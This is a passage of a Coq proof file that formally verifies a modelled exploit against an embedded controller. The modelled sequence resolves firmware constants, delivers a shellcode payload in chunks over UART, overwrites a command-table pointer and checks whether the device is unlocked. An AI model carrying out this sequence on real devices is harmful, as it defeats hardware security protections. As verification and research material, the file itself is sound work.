      destruct (negb _ && negb _); reflexivity. }
  assert (Hsep : (length s <= 11)%nat \/ nth 11 s zero = chr_space ->
                 starts_with s (lit "OK ") = true \/
                 starts_with s (lit "NG ") = true -> status_line s).
  { intros Hsep [Hok|Hng].
    - exact (status_line_intro s _ true v eq_refl Hok E4 Hsep).
    - exact (status_line_intro s _ false v eq_refl Hng E4 Hsep). }
  destruct (negb (starts_with s (lit "OK ")) && negb (starts_with s (lit "NG ")))
    eqn:Etag; [right; right; right; exact Hbody|].
  assert (Htag : starts_with s (lit "OK ") = true \/
                 starts_with s (lit "NG ") = true).
  { destruct (starts_with s (lit "OK ")); [left; reflexivity|].
    destruct (starts_with s (lit "NG ")); [right; reflexivity|discriminate]. }
  destruct (2 + 1 + 8 <? length s)%nat eqn:E5.
  - destruct (chr_eqb (nth (2 + 1 + 8) s zero) chr_space) eqn:E6;
      cbn [negb] in Hbody; [|right; right; right; exact Hbody].
    right. right. left. apply Hstatus, Hsep; [|exact Htag].
    right. apply chr_eqb_eq in E6. exact E6.
  - right. right. left. apply Hstatus, Hsep; [|exact Htag].
    left. apply Nat.ltb_ge in E5. simpl in E5. exact E5.
Qed.

(** X15: whatever the line, the result [from_str] builds is well formed:
    an Ok or Ng carries a 32-bit status and every other variant the
    invalid-status sentinel; it is never a Timeout; and its payload is the
    tail of the line, so parsing copies text and never invents any. *)
Theorem from_str_well_formed (s : str) :
  Result_wf (from_str s) /\
  type_ (from_str s) <> kTimeout /\
  exists p, s = p ++ response_ (from_str s).
Proof.
  destruct (from_str_cases s)
    as [(p & Hp & Hs & ->)|[(p & Hp & Hs & ->)
       |[(ok & h & rest & v & Hlen & Hv & Hrest & Hs & ->)| ->]]].
  - split; [reflexivity|]. split; [discriminate|]. exists (lit "# "). exact Hs.
  - split; [reflexivity|]. split; [discriminate|]. exists (lit "$$ "). exact Hs.
  - split; [|split].
    + apply hex_value_bound in Hv; [|lia]. rewrite Hlen in Hv.
      change (16 ^ Z.of_nat 8) with (2 ^ 32) in Hv.
      unfold Result_wf, is_ok_or_ng, is_ok, is_ng. cbn [type_ status_].
      destruct ok; cbn [orb]; lia.
    + cbn [type_]. destruct ok; discriminate.
    + cbn [response_].
      destruct Hrest as [->|[p ->]].
      * exists s. rewrite app_nil_r. reflexivity.
      * exists ((if ok then lit "OK " else lit "NG ") ++ h ++ [chr_space]).
        rewrite Hs, <- !app_assoc. reflexivity.
  - split; [reflexivity|]. split; [discriminate|]. exists []. reflexivity.
Qed.

(** X16: formatting what was parsed and parsing it again changes
    nothing: [from_str] after [format] is the identity on every result
    that [from_str] can produce, for all four variants. *)
Theorem from_str_format_idempotent (s : str) :
  from_str (format (from_str s)) = from_str s.
Proof.
  destruct (from_str_cases s)
    as [(p & Hp & _ & ->)|[(p & Hp & _ & ->)
       |[(ok & h & rest & v & Hlen & Hv & _ & _ & ->)|Hu]]].
  - apply from_str_comment, Hp.
  - apply from_str_info, Hp.
  - apply hex_value_bound in Hv; [|lia]. rewrite Hlen in Hv.
    change (16 ^ Z.of_nat 8) with (2 ^ 32) in Hv.
    rewrite format_okng by (destruct ok; reflexivity).
    cbn [status_ response_].
    replace (is_ok (mkResult (if ok then kOk else kNg) v (drop 1 rest)))
      with ok by (destruct ok; reflexivity).
    rewrite (from_str_status_line ok (format_0X 8 v)
               (chr_space :: drop 1 rest) v).
    + reflexivity.
    + apply length_format_0X.
    + apply hex_value_format_08X. lia.
    + right. eauto.
  - rewrite Hu at 1. change (format (new_unknown s)) with s. reflexivity.
Qed.

(** ** Footprint of the session's operations *)

Section StageRules.
Context {A B : Type}.
Variable P : Event -> bool.

Lemma stage_ret (Q : A -> Prop) (a : A) : Q a -> stage P Q (ret a).
Proof.
  intros Ha s. exists a, [], s. rewrite app_nil_r. repeat split; assumption.
Qed.

Lemma stage_bind (Q : A -> Prop) (R : B -> Prop) (m : M A) (k : A -> M B) :
  stage P Q m -> (forall a, Q a -> stage P R (k a)) -> stage P R (bind m k).
Proof.
  intros Hm Hk s.
  destruct (Hm s) as (a & evs & s1 & Hrun & Ha & Hev & HP & Hcc & Hmap).
  destruct (Hk a Ha s1) as (b & evs' & s2 & Hrun' & Hb & Hev' & HP' & Hcc' & Hmap').
  exists b, (evs ++ evs'), s2. unfold bind. rewrite Hrun, Hrun'.
  split; [reflexivity|]. split; [exact Hb|].
  split; [rewrite Hev', Hev, app_assoc; reflexivity|].
  split; [rewrite forallb_app, HP, HP'; reflexivity|].
  split; congruence.
Qed.

Lemma stage_weaken (Q Q' : A -> Prop) (m : M A) :
  (forall a, Q a -> Q' a) -> stage P Q m -> stage P Q' m.
Proof.
  intros HQ Hm s.
  destruct (Hm s) as (a & evs & s1 & Hrun & Ha & Hrest).
  exists a, evs, s1. split; [exact Hrun|]. split; [apply HQ, Ha|exact Hrest].
Qed.

End StageRules.

Lemma stage_emit (P : Event -> bool) (e : Event) :
  P e = true -> stage P (fun _ => True) (emit e).
Proof.
  intros He s. exists tt, [e], (log s [e]).
  repeat split. simpl. rewrite He. reflexivity.
Qed.

Lemma stage_get_session (P : Event -> bool) :
  stage P (fun _ => True) get_session.
Proof.
  intros s. exists s, [], s. rewrite app_nil_r. repeat split.
Qed.

Lemma stage_set_fw_consts_ (P : Event -> bool) (fw : FwConstants) (valid : bool) :
  stage P (fun _ => True) (set_fw_consts_ fw valid).
Proof.
  intros s. eexists tt, [], _. split; [reflexivity|].
  simpl. rewrite app_nil_r. repeat split.
Qed.

(** Every operation of the unlock sequence below the reset pulse leaves
    the reset line alone. *)
Section QuietStages.
Variable emc : Emc.
Variable P : Event -> bool.
Hypothesis P_uart : forall data wait_tx, P (EvUartWrite data wait_tx) = true.
Hypothesis P_ms : forall ms, P (EvBusyWaitMs ms) = true.
Hypothesis P_us : forall us, P (EvBusyWaitUs us) = true.
Hypothesis P_clear : P EvRxClear = true.
Hypothesis P_echo : forall c t, P (EvRxWaitEcho c t) = true.
Hypothesis P_read : forall t, P (EvRxReadResult t) = true.

Local Abbreviation any := (fun _ => True).

Ltac stage_step :=
  first
    [ apply stage_emit; solve [auto]
    | apply stage_get_session
    | apply stage_set_fw_consts_
    | apply stage_ret; solve [auto]
    | eapply stage_bind; [|intros ? ?] ].

Lemma stage_nak : stage P any nak.
Proof. unfold nak, write_str_blocking, busy_wait_ms. repeat stage_step. Qed.

Lemma stage_cmd_send (cmdline : str) (wait_echo : bool) :
  stage P any (cmd_send emc cmdline wait_echo).
Proof.
  unfold cmd_send, write_str_blocking. destruct wait_echo; cbn [negb];
    repeat stage_step.
Qed.

Lemma stage_read_result (timeout_us : Z) :
  stage P any (read_result emc timeout_us).
Proof. unfold read_result. repeat stage_step. Qed.

Lemma stage_cmd_send_recv (cmdline : str) (timeout_us : Z) :
  stage P any (cmd_send_recv emc cmdline timeout_us).
Proof.
  unfold cmd_send_recv. eapply stage_bind; [apply stage_cmd_send|].
  intros sent _. destruct sent; cbn [negb];
    [apply stage_read_result|apply stage_ret; exact I].
Qed.

Lemma stage_puareq1 (index : Z) : stage P any (puareq1 emc index).
Proof.
  unfold puareq1. eapply stage_bind; [apply stage_cmd_send_recv|].
  intros r _. apply stage_ret. exact I.
Qed.

Lemma stage_puareq2 (index : Z) (chunk : list u8) :
  stage P any (puareq2 emc index chunk).
Proof.
  unfold puareq2. eapply stage_bind; [apply stage_cmd_send_recv|].
  intros r _. apply stage_ret. exact I.
Qed.

Lemma stage_is_unlocked : stage P any (is_unlocked emc).
Proof.
  unfold is_unlocked, getserialno.
  eapply stage_bind; [apply stage_nak|]. intros _ _. apply stage_cmd_send_recv.
Qed.

Lemma stage_write_oob (value : list u8) : stage P any (write_oob value).
Proof.
  unfold write_oob, write_str_blocking, busy_wait_us, busy_wait_ms, uart_rx_clear.
  eapply stage_bind; [apply stage_nak|]. intros _ _.
  repeat stage_step.
Qed.

Lemma stage_prewrite_loop (target : list u8) (todo : list nat) :
  stage P any (prewrite_loop target todo).
Proof.
  induction todo as [|i rest IH]; cbn [prewrite_loop].
  - apply stage_ret. exact I.
  - eapply stage_bind; [|intros _ _; exact IH].
    destruct (is_printable _); [apply stage_write_oob|apply stage_ret; exact I].
Qed.

Lemma stage_overwrite_cmd_table_ptr : stage P any overwrite_cmd_table_ptr.
Proof.
  unfold overwrite_cmd_table_ptr.
  eapply stage_bind; [apply stage_get_session|]. intros s _.
  destruct (fill_target _ _ _) as [target|]; [|apply stage_ret; exact I].
  eapply stage_bind; [apply stage_prewrite_loop|]. intros _ _.
  eapply stage_bind; [apply stage_write_oob|]. intros _ _.
  apply stage_ret. exact I.
Qed.

End QuietStages.

Lemma ok_or_fails_ok (codes : list Z) : ok_or_fails codes (new_success []).
Proof. left. reflexivity. Qed.

Lemma ok_or_fails_ng (codes : list Z) (code : Z) (text : str) :
  code ∈ codes -> ok_or_fails codes (new_ng code text).
Proof. intros Hin. right. split; [reflexivity|exact Hin]. Qed.

Lemma ok_or_fails_mono (codes codes' : list Z) (r : Result) :
  forallb (fun c => existsb (Z.eqb c) codes') codes = true ->
  ok_or_fails codes r -> ok_or_fails codes' r.
Proof.
  intros Hsub [->|[Hng Hin]]; [left; reflexivity|right; split; [exact Hng|]].
  rewrite forallb_forall in Hsub. apply list_elem_of_In, Hsub in Hin.
  apply existsb_exists in Hin as (c & Hc & Heq).
  apply Z.eqb_eq in Heq. subst c. apply list_elem_of_In, Hc.
Qed.

Ltac in_codes :=
  repeat first [apply list_elem_of_here | apply list_elem_of_further].

Lemma ok_or_fails_success (codes : list Z) (r : Result) :
  ok_or_fails codes r -> is_success r = true -> r = new_success [].
Proof.
  intros [->|[Hng _]] Hs; [reflexivity|].
  unfold is_success, is_ok_status, is_ok, is_ng in *.
  destruct (type_ r); discriminate.
Qed.

Lemma ok_or_fails_not_ng (codes : list Z) (r : Result) :
  ok_or_fails codes r -> is_ng r = false -> r = new_success [].
Proof. intros [->|[Hng _]] Hs; [reflexivity|congruence]. Qed.

(** A crafted payload is at most eight chunks long. *)
Lemma craft_payload_length (fw : FwConstants) (payload : list u8) :
  craft_payload fw = Some payload ->
  let payload_len := sizeof_payload_t + Z.of_nat (length (shellcode fw)) in
  payload_len <= payload_max_len /\
  Z.of_nat (length payload) = 50 * (payload_len / 50 + 1).
Proof.
  intros Hcraft payload_len.
  assert (Hle : payload_len <= payload_max_len).
  { unfold craft_payload in Hcraft. fold payload_len in Hcraft.
    destruct (payload_len >? payload_max_len) eqn:E; [discriminate|].
    rewrite Z.gtb_ltb in E. apply Z.ltb_ge in E. exact E. }
  split; [exact Hle|].
  pose proof (craft_payload_layout fw) as Hlayout. cbv zeta in Hlayout.
  fold payload_len in Hlayout. rewrite (Hlayout Hle) in Hcraft.
  apply (inj Some) in Hcraft. subst payload.
  rewrite !length_app, length_payload_prefix, length_replicate.
  pose proof (Z.mod_pos_bound payload_len 50 ltac:(lia)) as Hmod.
  pose proof (Z.div_mod payload_len 50 ltac:(lia)) as Hdiv.
  unfold payload_len, sizeof_payload_t in *. lia.
Qed.

Section ResultStages.
Variable emc : Emc.
Variable P : Event -> bool.
Hypothesis P_uart : forall data wait_tx, P (EvUartWrite data wait_tx) = true.
Hypothesis P_ms : forall ms, P (EvBusyWaitMs ms) = true.
Hypothesis P_us : forall us, P (EvBusyWaitUs us) = true.
Hypothesis P_clear : P EvRxClear = true.
Hypothesis P_echo : forall c t, P (EvRxWaitEcho c t) = true.
Hypothesis P_read : forall t, P (EvRxReadResult t) = true.

Local Abbreviation any := (fun _ => True).

Ltac quiet lem := apply lem; solve [auto].

Lemma stage_resolve_constants :
  stage P (ok_or_fails [StatusCode.kFwConstsVersionFailed;
                        StatusCode.kFwConstsVersionUnknown])
        (resolve_constants emc).
Proof.
  unfold resolve_constants, version.
  eapply stage_bind; [apply stage_get_session|]. intros s _.
  destruct (fw_consts_valid_ s); [apply stage_ret, ok_or_fails_ok|].
  eapply stage_bind; [quiet stage_cmd_send_recv|]. intros result _.
  destruct (is_success result); cbn [negb];
    [|apply stage_ret, ok_or_fails_ng; in_codes].
  destruct (fw_constants_map s !! response_ result) as [fw|];
    [|apply stage_ret, ok_or_fails_ng; in_codes].
  eapply stage_bind; [apply stage_set_fw_consts_|]. intros _ _.
  apply stage_ret, ok_or_fails_ok.
Qed.

Lemma stage_deliver_chunks (chunks : list (list u8)) (idx : Z) :
  stage P (ok_or_fails [StatusCode.kSetPayloadPuareq2Failed])
        (deliver_chunks emc idx chunks).
Proof.
  revert idx. induction chunks as [|chunk rest IH]; intros idx;
    cbn [deliver_chunks].
  - apply stage_ret, ok_or_fails_ok.
  - eapply stage_bind; [quiet stage_puareq2|]. intros ok _.
    destruct ok; cbn [negb]; [apply IH|].
    apply stage_ret, ok_or_fails_ng. in_codes.
Qed.

Lemma stage_set_payload (payload : list u8) :
  Z.of_nat (length payload) + 50 < 2 ^ 32 ->
  stage P (ok_or_fails [StatusCode.kSetPayloadPuareq1Failed;
                        StatusCode.kSetPayloadPuareq2Failed])
        (set_payload emc payload).
Proof.
  intros Hlen s. rewrite (set_payload_chunks emc payload s Hlen). revert s.
  change (stage P (ok_or_fails [StatusCode.kSetPayloadPuareq1Failed;
                                StatusCode.kSetPayloadPuareq2Failed])
            (nak ;;;
             ok <- puareq1 emc 0 ;;
             if negb ok then ret (new_ng StatusCode.kSetPayloadPuareq1Failed [])
             else deliver_chunks emc 0 (chunks_of (length payload) payload))).
  eapply stage_bind; [quiet stage_nak|]. intros _ _.
  eapply stage_bind; [quiet stage_puareq1|]. intros ok _.
  destruct ok; cbn [negb].
  - eapply stage_weaken; [|apply stage_deliver_chunks].
    intros r. apply ok_or_fails_mono. reflexivity.
  - apply stage_ret, ok_or_fails_ng. in_codes.
Qed.

Lemma stage_craft_and_set_payload :
  stage P (ok_or_fails [StatusCode.kSetPayloadTooLarge;
                        StatusCode.kSetPayloadPuareq1Failed;
                        StatusCode.kSetPayloadPuareq2Failed])
        (craft_and_set_payload emc).
Proof.
  unfold craft_and_set_payload.
  eapply stage_bind; [apply stage_get_session|]. intros s _.
  destruct (craft_payload (fw_consts_ s)) as [payload|] eqn:Hcraft.
  - eapply stage_weaken; [|apply stage_set_payload].
    + intros r. apply ok_or_fails_mono. reflexivity.
    + destruct (craft_payload_length _ _ Hcraft) as [Hle Hlen].
      unfold payload_max_len, sizeof_payload_t in *.
      assert ((sizeof_payload_t + Z.of_nat (length (shellcode (fw_consts_ s)))) / 50
              <= 7) by (apply Z.div_le_upper_bound; unfold sizeof_payload_t; lia).
      unfold sizeof_payload_t in *. lia.
  - apply stage_ret, ok_or_fails_ng. in_codes.
Qed.

Lemma stage_exploit_setup :
  stage P (ok_or_fails setup_failures) (exploit_setup emc).
Proof.
  unfold exploit_setup.
  eapply stage_bind; [apply stage_resolve_constants|]. intros r1 Hr1.
  destruct (is_success r1) eqn:E1; cbn [negb].
  2:{ apply stage_ret. revert Hr1. apply ok_or_fails_mono. reflexivity. }
  eapply stage_bind; [apply stage_craft_and_set_payload|]. intros r2 Hr2.
  destruct (is_success r2) eqn:E2; cbn [negb].
  2:{ apply stage_ret. revert Hr2. apply ok_or_fails_mono. reflexivity. }
  eapply stage_bind; [quiet stage_overwrite_cmd_table_ptr|].
  intros ok _. destruct ok; cbn [negb].
  - apply stage_ret, ok_or_fails_ok.
  - apply stage_ret, ok_or_fails_ng. unfold setup_failures. in_codes.
Qed.

Lemma stage_exploit_trigger : stage P any (exploit_trigger emc).
Proof.
  unfold exploit_trigger, version.
  eapply stage_bind; [quiet stage_nak|]. intros _ _.
  eapply stage_bind; [quiet stage_cmd_send_recv|]. intros result _.
  destruct (is_ng_status result _); cbn [negb]; [|apply stage_ret; exact I].
  eapply stage_bind; [quiet stage_cmd_send|]. intros _ _.
  quiet stage_is_unlocked.
Qed.

End ResultStages.

Lemma events_since_app (s s' : Session) (evs : list Event) :
  events s' = events s ++ evs -> events_since s s' = evs.
Proof. intros H. unfold events_since. rewrite H. apply drop_app_length. Qed.

Lemma quiet_no_reset (evs : list Event) :
  forallb (fun e => negb (is_reset_event e)) evs = true ->
  existsb is_reset_event evs = false.
Proof.
  induction evs as [|e evs IH]; simpl; [reflexivity|].
  intros H. apply andb_true_iff in H as [He Hevs].
  apply negb_true_iff in He. rewrite He, (IH Hevs). reflexivity.
Qed.

Lemma setup_failures_not_reset (r : Result) :
  ok_or_fails setup_failures r ->
  status_ r <> StatusCode.kExploitFailedEmcReset.
Proof.
  intros [->|[_ Hin]]; [discriminate|].
  unfold setup_failures in Hin.
  repeat (apply elem_of_cons in Hin as [Hin|Hin]; [rewrite Hin; discriminate|]).
  apply elem_of_nil in Hin. destruct Hin.
Qed.

(** X12: whenever [autorun] returns, its result is plain success or an
    Ng whose status is [kEmcInReset], one of the six statuses of
    [exploit_setup], or [kExploitFailedEmcReset]; the status
    [kExploitVersionUnexpected] of [exploit_trigger] never leaves it. The
    reset line has been driven exactly when the result is
    [kExploitFailedEmcReset], and the chip constants and the table of
    firmware constants are as they were. *)
Theorem autorun_outcomes (emc : Emc) (s s' : Session) (r : Result) :
  autorun emc s = Some (r, s') ->
  ok_or_fails (StatusCode.kEmcInReset
                 :: setup_failures ++ [StatusCode.kExploitFailedEmcReset]) r /\
  (existsb is_reset_event (events_since s s') = true <->
     status_ r = StatusCode.kExploitFailedEmcReset) /\
  chip_consts_ s' = chip_consts_ s /\
  fw_constants_map s' = fw_constants_map s.
Proof.
  set (P := fun e => negb (is_reset_event e)).
  unfold autorun, reset_is_reset.
  unfold bind at 1 2 3. rewrite emit_total. unfold get_session, ret.
  cbn [events log].
  destruct (reset_level emc (events s ++ [EvResetSample])) eqn:Hreset;
    cbn [negb].
  2:{ intros Hrun. apply (inj Some), pair_equal_spec in Hrun as [<- <-].
      split; [apply ok_or_fails_ng, list_elem_of_here|].
      rewrite (events_since_app s _ [EvResetSample]) by reflexivity.
      split; [split; discriminate|split; reflexivity]. }
  unfold uart_rx_clear. unfold bind at 1. rewrite emit_total, log_log.
  cbn [app]. set (s2 := log s [EvResetSample; EvRxClear]).
  unfold bind at 1.
  destruct (is_unlocked emc s2) as [[r1 s3]|] eqn:Hrun1; [|discriminate].
  destruct (stage_is_unlocked emc P) with (s := s2)
    as (r1' & e1 & s3' & Hrun1' & _ & Hev1 & HP1 & Hcc1 & Hmap1);
    try reflexivity.
  rewrite Hrun1 in Hrun1'.
  apply (inj Some), pair_equal_spec in Hrun1' as [<- <-].
  assert (Hsince3 : events_since s s3 = [EvResetSample; EvRxClear] ++ e1).
  { apply events_since_app. rewrite Hev1. unfold s2. cbn [events log].
    rewrite <- app_assoc. reflexivity. }
  destruct (is_success r1).
  { intros Hrun. apply (inj Some), pair_equal_spec in Hrun as [<- <-].
    split; [apply ok_or_fails_ok|]. rewrite Hsince3.
    cbn [app existsb is_reset_event orb]. rewrite (quiet_no_reset e1 HP1).
    split; [split; discriminate|]. rewrite Hcc1, Hmap1. split; reflexivity. }
  unfold bind at 1.
  destruct (exploit_setup emc s3) as [[r2 s4]|] eqn:Hrun2; [|discriminate].
  destruct (stage_exploit_setup emc P) with (s := s3)
    as (r2' & e2 & s4' & Hrun2' & Hq2 & Hev2 & HP2 & Hcc2 & Hmap2);
    try reflexivity.
  rewrite Hrun2 in Hrun2'.
  apply (inj Some), pair_equal_spec in Hrun2' as [<- <-].
  assert (Hsince4 : events_since s s4
                    = [EvResetSample; EvRxClear] ++ e1 ++ e2).
  { apply events_since_app. rewrite Hev2, Hev1. unfold s2. cbn [events log].
    rewrite <- !app_assoc. reflexivity. }
  destruct (is_ng r2) eqn:Hng2.
  { intros Hrun. apply (inj Some), pair_equal_spec in Hrun as [<- <-].
    split; [revert Hq2; apply ok_or_fails_mono; reflexivity|].
    rewrite Hsince4. cbn [app existsb is_reset_event orb].
    rewrite existsb_app, (quiet_no_reset e1 HP1), (quiet_no_reset e2 HP2).
    split; [split; [discriminate|]|].
    - intros Hst. destruct (setup_failures_not_reset r2 Hq2 Hst).
    - rewrite Hcc2, Hmap2, Hcc1, Hmap1. split; reflexivity. }
  unfold bind at 1.
  destruct (exploit_trigger emc s4) as [[r3 s5]|] eqn:Hrun3; [|discriminate].
  destruct (stage_exploit_trigger emc P) with (s := s4)
    as (r3' & e3 & s5' & Hrun3' & _ & Hev3 & HP3 & Hcc3 & Hmap3);
    try reflexivity.
  rewrite Hrun3 in Hrun3'.
  apply (inj Some), pair_equal_spec in Hrun3' as [<- <-].
  assert (Hsince5 : events_since s s5
                    = [EvResetSample; EvRxClear] ++ e1 ++ e2 ++ e3).
  { apply events_since_app. rewrite Hev3, Hev2, Hev1. unfold s2.
    cbn [events log]. rewrite <- !app_assoc. reflexivity. }
  destruct (is_success r3).
  { intros Hrun. apply (inj Some), pair_equal_spec in Hrun as [<- <-].
    split; [apply ok_or_fails_ok|]. rewrite Hsince5.
    cbn [app existsb is_reset_event orb].
    rewrite !existsb_app, (quiet_no_reset e1 HP1), (quiet_no_reset e2 HP2),
      (quiet_no_reset e3 HP3).
    split; [split; discriminate|].
    rewrite Hcc3, Hmap3, Hcc2, Hmap2, Hcc1, Hmap1. split; reflexivity. }
  unfold reset_reset, busy_wait_us. unfold bind. rewrite !emit_total, !log_log.
  cbn [app]. intros Hrun.
  apply (inj Some), pair_equal_spec in Hrun as [<- <-].
  split; [apply ok_or_fails_ng; unfold setup_failures; in_codes|].
  rewrite (events_since_app s _ ([EvResetSample; EvRxClear] ++ e1 ++ e2 ++ e3
                                   ++ [EvResetSetLow; EvBusyWaitUs 100;
                                       EvResetRelease])).
  2:{ cbn [events log]. rewrite Hev3, Hev2, Hev1. unfold s2.
      cbn [events log]. rewrite <- !app_assoc. reflexivity. }
  split.
  - split; [reflexivity|]. intros _.
    cbn [app existsb is_reset_event orb]. rewrite !existsb_app.
    cbn [existsb is_reset_event orb]. rewrite !orb_true_r. reflexivity.
  - cbn [chip_consts_ fw_constants_map log].
    rewrite Hcc3, Hmap3, Hcc2, Hmap2, Hcc1, Hmap1. split; reflexivity.
Qed.

Lemma autorun_outcomes_witness :
  exists r s',
    autorun emc_ack Session_init = Some (r, s') /\
    ok_or_fails (StatusCode.kEmcInReset
                   :: setup_failures ++ [StatusCode.kExploitFailedEmcReset]) r /\
    existsb is_reset_event (events_since Session_init s') = false /\
    chip_consts_ s' = salina_consts_.
Proof.
  assert (Hr : match autorun emc_ack Session_init with
               | Some (r, _) => status_ r = StatusCode.kSuccess
               | None => False
               end) by (vm_compute; reflexivity).
  destruct (autorun emc_ack Session_init) as [[r s']|] eqn:Hrun;
    [|destruct Hr].
  destruct (autorun_outcomes emc_ack Session_init s' r Hrun)
    as (Hq & Hreset & Hcc & _).
  exists r, s'. split; [reflexivity|]. split; [exact Hq|].
  split; [|exact Hcc].
  destruct (existsb is_reset_event (events_since Session_init s'));
    [|reflexivity].
  rewrite (proj1 Hreset eq_refl) in Hr. discriminate.
Defined.

(** ** Resolving the firmware constants *)

Lemma is_success_inv (ok : bool) (status : Z) (text : str) :
  is_success (mkResult (if ok then kOk else kNg) status text) = true ->
  ok = true /\ status = StatusCode.kSuccess.
Proof.
  unfold is_success, is_ok_status, is_ok. cbn [type_ status_].
  destruct ok; [|discriminate]. cbn [andb]. intros H.
  apply Z.eqb_eq in H. split; [reflexivity|exact H].
Qed.

(** A successful exchange had its echo and read "OK 00000000" with the
    text the result carries. *)
Lemma cmd_send_recv_success (emc : Emc) (cmdline : str) (timeout_us : Z)
    (s s' : Session) (r : Result) :
  cmd_send_recv emc cmdline timeout_us s = Some (r, s') ->
  is_success r = true ->
  s' = log s (cmd_events cmdline timeout_us) /\
  emc_reply emc (events s') = Some (true, StatusCode.kSuccess, response_ r).
Proof.
  rewrite cmd_send_recv_run. intros Hrun Hr.
  destruct (emc_echo emc _); apply (inj Some) in Hrun;
    apply pair_equal_spec in Hrun as [<- <-]; [|discriminate].
  split; [reflexivity|]. cbn [events log].
  destruct (emc_reply emc _) as [[[ok status] text]|]; [|discriminate].
  apply is_success_inv in Hr as [-> ->]. reflexivity.
Qed.

(** X13: a call of [resolve_constants] that returns has succeeded
    exactly when the cache is valid afterwards. With a valid cache it has
    done nothing at all. Otherwise it has asked the version once: on
    failure the cached constants are untouched and the result is an Ng;
    on success the controller answered "OK 00000000" with a version the
    table knows, and the cache holds the table's entry for it. The table
    and the chip constants are never changed. *)
Theorem resolve_constants_cache (emc : Emc) (s s' : Session) (r : Result) :
  resolve_constants emc s = Some (r, s') ->
  is_success r = fw_consts_valid_ s' /\
  fw_constants_map s' = fw_constants_map s /\
  chip_consts_ s' = chip_consts_ s /\
  (fw_consts_valid_ s = true -> r = new_success [] /\ s' = s) /\
  (is_success r = false ->
     is_ng r = true /\ fw_consts_ s' = fw_consts_ s /\
     commands_sent (events_since s s') = [lit "version"]) /\
  (fw_consts_valid_ s = false -> is_success r = true ->
     exists version_str,
       emc_reply emc (events s')
         = Some (true, StatusCode.kSuccess, version_str) /\
       fw_constants_map s !! version_str = Some (fw_consts_ s') /\
       commands_sent (events_since s s') = [lit "version"]).
Proof.
  unfold resolve_constants. unfold bind at 1. unfold get_session.
  destruct (fw_consts_valid_ s) eqn:Hvalid.
  { unfold ret. intros Hrun.
    apply (inj Some), pair_equal_spec in Hrun as [<- <-].
    rewrite Hvalid. repeat split; try discriminate; auto. }
  unfold version. unfold bind at 1.
  destruct (cmd_send_recv emc (lit "version") 10000 s)
    as [[result s1]|] eqn:Hrun1; [|discriminate].
  assert (Hsent : commands_sent (events_since s s1) = [lit "version"]).
  { rewrite cmd_send_recv_run in Hrun1.
    destruct (emc_echo emc _); apply (inj Some) in Hrun1;
      apply pair_equal_spec in Hrun1 as [_ <-];
      (erewrite events_since_app by (cbn [events log]; reflexivity));
      reflexivity. }
  assert (Hframe : fw_consts_valid_ s1 = false /\ fw_consts_ s1 = fw_consts_ s /\
                   fw_constants_map s1 = fw_constants_map s /\
                   chip_consts_ s1 = chip_consts_ s).
  { rewrite cmd_send_recv_run in Hrun1.
    destruct (emc_echo emc _); apply (inj Some) in Hrun1;
      apply pair_equal_spec in Hrun1 as [_ <-]; cbn [log fw_consts_valid_
        fw_consts_ fw_constants_map chip_consts_]; auto. }
  destruct Hframe as (Hv1 & Hfw1 & Hmap1 & Hcc1).
  destruct (is_success result) eqn:Hres; cbn [negb].
  2:{ unfold ret. intros Hrun.
      apply (inj Some), pair_equal_spec in Hrun as [<- <-].
      rewrite Hv1. repeat split; try discriminate; auto. }
  destruct (cmd_send_recv_success emc _ _ _ _ _ Hrun1 Hres) as [Hs1 Hreply].
  destruct (fw_constants_map s !! response_ result) as [fw|] eqn:Hlookup.
  2:{ unfold ret. intros Hrun.
      apply (inj Some), pair_equal_spec in Hrun as [<- <-].
      rewrite Hv1. repeat split; try discriminate; auto. }
  unfold bind, set_fw_consts_, ret. intros Hrun.
  apply (inj Some), pair_equal_spec in Hrun as [<- <-].
  cbn [fw_consts_valid_ fw_constants_map chip_consts_ fw_consts_ events].
  split; [reflexivity|]. split; [exact Hmap1|]. split; [exact Hcc1|].
  split; [discriminate|]. split; [discriminate|].
  intros _ _. exists (response_ result).
  split; [exact Hreply|]. split; [exact Hlookup|].
  unfold events_since in *. exact Hsent.
Qed.

Lemma resolve_constants_cache_witness :
  exists r s',
    resolve_constants emc_vulnerable Session_init = Some (r, s') /\
    is_success r = true /\
    fw_consts_valid_ s' = true /\
    fw_constants_map_init !! lit "E1E 0001 0000 0004 13D0"
      = Some (fw_consts_ s').
Proof.
  assert (Hr : match resolve_constants emc_vulnerable Session_init with
               | Some (r, _) => is_success r = true
               | None => False
               end) by (vm_compute; reflexivity).
  destruct (resolve_constants emc_vulnerable Session_init)
    as [[r s']|] eqn:Hrun; [|destruct Hr].
  destruct (resolve_constants_cache emc_vulnerable Session_init s' r Hrun)
    as (Hvalid & _ & _ & _ & _ & Hloaded).
  destruct (Hloaded eq_refl Hr) as (v & Hreply & Hlookup & _).
  exists r, s'. split; [reflexivity|]. split; [exact Hr|].
  split; [rewrite <- Hvalid; exact Hr|].
  assert (Hv : match emc_reply emc_vulnerable (events s') with
               | Some (_, _, text) => text = lit "E1E 0001 0000 0004 13D0"
               | None => False
               end).
  { revert Hrun. clear. intros Hrun.
    assert (H : match resolve_constants emc_vulnerable Session_init with
                | Some (_, s1) =>
                    match emc_reply emc_vulnerable (events s1) with
                    | Some (_, _, text) => text = lit "E1E 0001 0000 0004 13D0"
                    | None => False
                    end
                | None => False
                end) by (vm_compute; reflexivity).
    rewrite Hrun in H. exact H. }
  rewrite Hreply in Hv. subst v. exact Hlookup.
Defined.

(** ** Delivering the payload *)

Lemma concat_chunks_of (fuel : nat) (payload : list u8) :
  (length payload <= fuel)%nat -> concat (chunks_of fuel payload) = payload.
Proof.
  revert payload. induction fuel as [|fuel IH]; intros payload Hlen.
  - destruct payload; [reflexivity|simpl in Hlen; lia].
  - destruct payload as [|b payload]; [reflexivity|].
    rewrite chunks_of_cons by discriminate. cbn [concat].
    rewrite IH, take_drop; [reflexivity|].
    rewrite length_drop. simpl in *. lia.
Qed.

Lemma Forall_chunks_of (fuel : nat) (payload : list u8) :
  Forall (fun chunk => (0 < length chunk <= 50)%nat) (chunks_of fuel payload).
Proof.
  revert payload. induction fuel as [|fuel IH]; intros payload;
    [apply Forall_nil_2|].
  destruct payload as [|b payload]; [apply Forall_nil_2|].
  rewrite chunks_of_cons by discriminate.
  apply Forall_cons_2; [|apply IH].
  rewrite length_take. cbn [length]. lia.
Qed.

Lemma commands_sent_app (a b : list Event) :
  commands_sent (a ++ b) = commands_sent a ++ commands_sent b.
Proof. apply omap_app. Qed.

(** A command frame is never taken for an overwrite write: it ends in a
    newline, not in a NAK. *)
Lemma oob_value_cmd_frame (cmdline : str) (wait_tx : bool) :
